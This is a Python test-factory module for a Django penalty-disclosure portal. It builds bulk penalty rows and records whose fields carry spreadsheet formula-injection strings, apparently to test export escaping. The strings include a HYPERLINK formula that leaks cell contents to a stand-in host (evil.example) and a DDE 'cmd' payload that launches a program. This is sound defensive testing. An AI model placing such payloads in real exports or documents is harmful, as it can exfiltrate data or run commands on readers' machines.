"""Builders for the open-data tests: many rows at once."""

import datetime
from decimal import Decimal

from portal.disclosures.models import Penalty
from portal.registry.models import Entity
from tests.factories import make_company, make_penalty, make_person


def make_many_penalties(count: int, **fields) -> list[int]:
    """Create `count` public penalties like one validated template; return their ids.

    Only the template goes through full_clean(); the copies share its derived
    fields (deadline, publicity window) and differ in decision number, date
    and fine, so bulk_create can write thousands quickly.
    """
    template = make_penalty(**fields)
    copied = [
        field.attname
        for field in Penalty._meta.concrete_fields
        if not field.primary_key and field.attname not in ("created_at", "updated_at")
    ]
    values = {name: getattr(template, name) for name in copied}
    penalties = []
    for n in range(count - 1):
        row = dict(values)
        row["decision_number"] = f"{template.decision_number}-{n}"
        row["decided_on"] = template.decided_on - datetime.timedelta(days=n % 5)
        row["fine_amount"] = (template.fine_amount or 0) + n
        penalties.append(Penalty(**row))
    Penalty.objects.bulk_create(penalties, batch_size=1000)
    return [
        template.pk,
        *Penalty.objects.filter(
            decision_number__startswith=f"{template.decision_number}-"
        ).values_list("pk", flat=True),
    ]


# Texts a spreadsheet would run as formulas: OWASP's leading characters (=, +,
# -, @, tab, carriage return) and their full-width forms.
FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "=1+2",
    "@SUM(A1:A2)",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+2",
    "\r=1+2",
    "＝1+2",
    "＋86 571 8888 8888",
    "－2+3",
    "＠SUM(A1:A2)",
)
# Texts that begin otherwise, though a trigger character is inside them.
SAFE_TEXTS = ("经营-过期食品 =1+2", "1-2", "'=already quoted", "A+B@C")


def make_formula_records() -> dict[str, list]:
    """Create public penalties and entities whose texts carry each formula.

    Each formula is the facts, remarks, content, decision number and
    counterpart name of one penalty, and the name and a former name of its
    company. The
    database holds the texts exactly: update() keeps the leading tab and
    carriage return a form or model might strip.
    """
    penalties, entities = [], []
    for n, formula in enumerate((*FORMULAS, *SAFE_TEXTS)):
        entity = make_company(former_names=[formula, "旧名"])
        penalty = make_penalty(entity=entity, fine_amount=Decimal(n))
        Entity.objects.filter(pk=entity.pk).update(name=formula)
        Penalty.objects.filter(pk=penalty.pk).update(
            counterpart_name=formula,
            facts=formula,
            remarks=formula,
            content=formula,
            decision_number=formula,
        )
        penalties.append(penalty.pk)
        entities.append(entity.pk)
    person = make_person()
    Entity.objects.filter(pk=person.pk).update(name="=1+2")
    # A negative amount is a number, never a formula: it stays as it is.
    negative = make_penalty(entity=person, fine_amount=Decimal("1"))
    Penalty.objects.filter(pk=negative.pk).update(
        fine_amount=Decimal("-2"), counterpart_name="=1+2"
    )
    return {"penalties": penalties, "entities": entities, "negative": negative.pk}
